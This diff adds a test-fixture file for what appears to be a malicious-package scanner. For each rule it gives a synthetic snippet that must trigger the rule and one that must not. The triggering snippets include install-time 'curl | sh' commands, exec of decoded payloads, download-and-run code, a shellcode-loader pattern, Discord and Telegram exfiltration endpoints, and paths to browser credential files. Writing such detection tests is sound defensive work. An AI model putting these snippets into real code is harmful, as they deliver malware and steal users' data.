@@ -1,0 +1,164 @@
+// One sample that must fire and one that must not, per rule. Synthetic code written for the tests.
+export interface Sample {
+  path: string;
+  source: string;
+}
+
+const longB64 = 'aGVsbG8gd29ybGQ5'.repeat(80);
+const longLiteral = `print('${'x'.repeat(150)}')`;
+
+export const SAMPLES: Record<string, { match: Sample; noMatch: Sample }> = {
+  'exec-decoded-payload': {
+    match: { path: 'pkg/__init__.py', source: 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n' },
+    noMatch: {
+      path: 'pkg/__init__.py',
+      source: 'import base64\ndata = base64.b64decode(blob)\nexec("x = 1")\n',
+    },
+  },
+  'download-and-execute': {
+    match: {
+      path: 'pkg/__init__.py',
+      source:
+        'import urllib.request, subprocess\nurllib.request.urlretrieve(u, "a.exe")\nsubprocess.Popen(["a.exe"])\n',
+    },
+    noMatch: {
+      path: 'pkg/__init__.py',
+      source: 'import requests\ndef f():\n    return requests.get(u).json()\n',
+    },
+  },
+  'shellcode-loader': {
+    match: {
+      path: 'pkg/run.py',
+      source:
+        'import ctypes\nk = ctypes.windll.kernel32\np = ctypes.windll.kernel32.VirtualAlloc(0, n, 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, buf, n)\n',
+    },
+    noMatch: { path: 'pkg/run.py', source: 'import ctypes\nctypes.windll.kernel32.GetTickCount()\n' },
+  },
+  'exec-string-literal': {
+    match: { path: 'pkg/m.py', source: `exec(${JSON.stringify(longLiteral)})\n` },
+    noMatch: { path: 'pkg/m.py', source: 'exec("x = 1")\n' },
+  },
+  'marshal-code-load': {
+    match: { path: 'pkg/m.py', source: 'import marshal\ncode = marshal.loads(data)\n' },
+    noMatch: { path: 'pkg/m.py', source: 'import marshal\nmarshal.dumps(obj)\n' },
+  },
+  'dynamic-import': {
+    match: { path: 'pkg/m.py', source: "m = __import__(''.join(['o', 's']))\n" },
+    noMatch: {
+      path: 'pkg/m.py',
+      source: "import importlib\nimportlib.import_module('json')\nimportlib.import_module(name)\n",
+    },
+  },
+  'install-time-process': {
+    match: { path: 'pkg-1.0/setup.py', source: 'import os\nos.system("curl x | sh")\nsetup(name="x")\n' },
+    noMatch: {
+      path: 'pkg-1.0/setup.py',
+      source: 'from setuptools import setup\nsetup(name="x", version="1.0")\n',
+    },
+  },
+  'install-time-network': {
+    match: {
+      path: 'pkg-1.0/setup.py',
+      source: 'import requests\nrequests.post("https://x.example", data=d)\n',
+    },
+    noMatch: { path: 'pkg-1.0/setup.py', source: 'import io\nlong = io.open("README.md").read()\n' },
+  },
+  'pth-executable': {
+    match: { path: 'evil.pth', source: 'import os; os.system("id")\n' },
+    noMatch: { path: 'paths.pth', source: '/opt/lib/python\n./src\n' },
+  },
+  'process-execution': {
+    match: { path: 'pkg/m.py', source: 'import subprocess as sp\ndef f():\n    sp.run(["git", "status"])\n' },
+    noMatch: {
+      path: 'pkg/m.py',
+      source: 'import subprocess\ntry:\n    pass\nexcept subprocess.CalledProcessError:\n    pass\n',
+    },
+  },
+  'network-access': {
+    match: { path: 'pkg/m.py', source: 'import socket\ns = socket.socket()\n' },
+    noMatch: { path: 'pkg/m.py', source: 'import socket\nprint(socket.AF_INET)\n' },
+  },
+  persistence: {
+    match: {
+      path: 'pkg/m.py',
+      source:
+        'import os\np = os.path.expanduser("~/.bashrc")\nkey = r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"\n',
+    },
+    noMatch: { path: 'pkg/m.py', source: 'p = "~/.config/mytool/settings.ini"\n' },
+  },
+  'credential-paths': {
+    match: { path: 'pkg/m.py', source: 'p = r"Google\\Chrome\\User Data\\Default\\Login Data"\n' },
+    noMatch: { path: 'pkg/m.py', source: 'p = "data/login.html"\n' },
+  },
+  'clipboard-access': {
+    match: { path: 'pkg/m.py', source: 'import pyperclip\ndef f():\n    return pyperclip.paste()\n' },
+    noMatch: { path: 'pkg/m.py', source: 'def paste(x):\n    return x\npaste(1)\n' },
+  },
+  'sysinfo-read': {
+    match: { path: 'pkg-1.0/setup.py', source: 'import getpass\nuser = getpass.getuser()\n' },
+    noMatch: { path: 'pkg-1.0/setup.py', source: 'import platform\nprint(platform.python_implementation)\n' },
+  },
+  'anti-analysis': {
+    match: { path: 'pkg/m.py', source: 'BAD = ["vmware", "VirtualBox", "wireshark", "x64dbg"]\n' },
+    noMatch: { path: 'pkg/m.py', source: 'HYPERVISOR = "vmware"\n' },
+  },
+  'exfil-endpoint': {
+    match: { path: 'pkg/m.py', source: 'HOOK = "https://discord.com/api/webhooks/123/abc"\n' },
+    noMatch: { path: 'pkg/m.py', source: 'DOCS = "https://discord.com/invite/project"\n' },
+  },
+  'suspicious-url': {
+    match: { path: 'pkg/m.py', source: 'URL = "http://45.12.3.4:8080/a"\n' },
+    noMatch: { path: 'pkg/m.py', source: 'URL = "http://127.0.0.1:8080/a"\n' },
+  },
+  'obfuscator-marker': {
+    match: {
+      path: 'pkg/m.py',
+      source: 'from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b"x")\n',
+    },
+    noMatch: { path: 'pkg/m.py', source: 'import armor\narmor.wrap()\n' },
+  },
+  'obfuscated-identifiers': {
+    match: { path: 'pkg/m.py', source: '_0x1a2b = 1\n_0x3c4d = 2\nIlIlIlIl = _0x1a2b + _0x3c4d\n' },
+    noMatch: { path: 'pkg/m.py', source: 'ILLINOIS = 1\nx0 = 2\nhex_0x = 3\n' },
+  },
+  'chr-chain': {
+    match: {
+      path: 'pkg/m.py',
+      source: `s = ${Array.from('http://evil', (c) => `chr(${c.charCodeAt(0)})`).join('+')}\n`,
+    },
+    noMatch: { path: 'pkg/m.py', source: 's = chr(65) + chr(66)\n' },
+  },
+  'long-line': {
+    match: {
+      path: 'pkg/m.py',
+      source: `x = 1${' '.repeat(300)};import os;os.system("id")${';y=f()'.repeat(400)}\n`,
+    },
+    noMatch: { path: 'pkg/m.py', source: `DATA = "${'a'.repeat(3000)}"\n` },
+  },
+  'encoded-blob': {
+    match: { path: 'pkg/__init__.py', source: `PAYLOAD = "${longB64}"\n` },
+    noMatch: { path: 'pkg/__init__.py', source: `TEXT = "${'lorem ipsum dolor sit amet, '.repeat(60)}"\n` },
+  },
+};
+
+export const TEXT_SAMPLES: Record<string, { match: Sample; noMatch: Sample }> = {
+  'script-download-execute': {
+    match: { path: 'tools/install.sh', source: '#!/bin/sh\ncurl -fsSL http://x.example/p | bash\n' },
+    noMatch: {
+      path: 'tools/install.sh',
+      source: '#!/bin/sh\ncurl -fsSL -o out.tar.gz https://x.example/p\n',
+    },
+  },
+  'script-encoded-command': {
+    match: { path: 'run.bat', source: 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\n' },
+    noMatch: { path: 'run.bat', source: 'powershell -File build.ps1\n' },
+  },
+  'script-exfil-endpoint': {
+    match: { path: 'a.js', source: 'fetch("https://api.telegram.org/bot123:abc/sendMessage")\n' },
+    noMatch: { path: 'a.js', source: 'fetch("https://example.org/api")\n' },
+  },
+  'script-suspicious-url': {
+    match: { path: 'a.ps1', source: 'iwr http://203.0.113.9/x.exe -OutFile x.exe\n' },
+    noMatch: { path: 'a.ps1', source: 'iwr https://example.org/x.zip -OutFile x.zip\n' },
+  },
+};
